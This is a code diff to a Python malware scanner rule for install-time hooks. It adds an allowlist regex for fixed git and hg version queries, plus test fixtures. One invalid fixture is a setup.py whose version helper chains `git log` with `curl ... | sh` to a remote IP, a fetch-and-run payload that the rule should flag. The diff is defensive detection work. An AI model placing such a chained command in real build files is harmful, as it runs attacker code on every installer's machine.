@@ -15,6 +15,7 @@ the same problem is never reported twice.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator, Sequence
 from typing import ClassVar
 
@@ -436,8 +437,22 @@ class InstallHookReachesNetworkOrProcess(_CombinationRule):
         "import subprocess\nfrom setuptools import setup\n"
         "def _version():\n    return subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
         "setup(name='x', version=_version())\n",
+        # Django's shape: a fixed `git log` through a shell, for a development version string
+        "import subprocess\nfrom setuptools import setup\n"
+        "def _changeset():\n"
+        "    log = subprocess.run('git log --pretty=format:%ct --quiet -1 HEAD', shell=True,\n"
+        "                         capture_output=True, text=True)\n"
+        "    return log.stdout.strip()\n"
+        "setup(name='x', version='1.0.dev' + _changeset())\n",
     )
     INVALID = (
+        "import subprocess\nfrom setuptools import setup\n"
+        "def _changeset():\n"
+        "    log = subprocess.run('git log -1 --format=%ct && curl -s https://198.51.100.7/p | sh', shell=True,\n"
+        "                         capture_output=True, text=True)\n"
+        "    return log.stdout.strip()\n"
+        "# ruleid: install-or-import-hook-reaches-network-or-process\n"
+        "setup(name='x', version='1.0.dev' + _changeset())\n",
         "from setuptools import setup\nfrom setuptools.command.install import install\n"
         "import requests, platform\n"
         "def _register():\n"
@@ -480,10 +495,21 @@ class InstallHookReachesNetworkOrProcess(_CombinationRule):
             if part.fact.kind == f.SPAWN and not (part.fact.grade == "shell" or "detached" in part.fact.detail
                                                   or "computed" in part.fact.detail):
                 continue
+            if part.fact.kind == f.SPAWN and _VCS_QUERY.match(s.command_text(part.fact.node)):
+                continue
             where = "install or build" if scope.context == f.INSTALL else "import"
             parts = [Reached(context, scope, (), ()), part] if context is not None else [part]
             return parts, f"Code that runs at {where} time reaches {part.fact.kind.replace('-', ' ')}"
         return None
+
+
+# A fixed, read-only query of the package's own version control, through a shell or not: how
+# versioneer, setuptools_scm and Django's get_version() (django/__init__.py -> utils/version.py,
+# `git log --pretty=format:%ct --quiet -1 HEAD` with shell=True, for development versions) compute
+# a version string at build or import time. Fixed text gives a shell nothing to inject; chaining
+# (`git log && curl … | sh`) or a computed part does not match.
+_VCS_QUERY = re.compile(r"^\s*(git|hg)\s+(log|describe|rev-parse|rev-list|show|status|ls-files|id|identify)"
+                        r"(\s[^*|;&`$<>(){}\n]*)?$")
 
 
 # --- time and logic bombs -----------------------------------------------------------------------
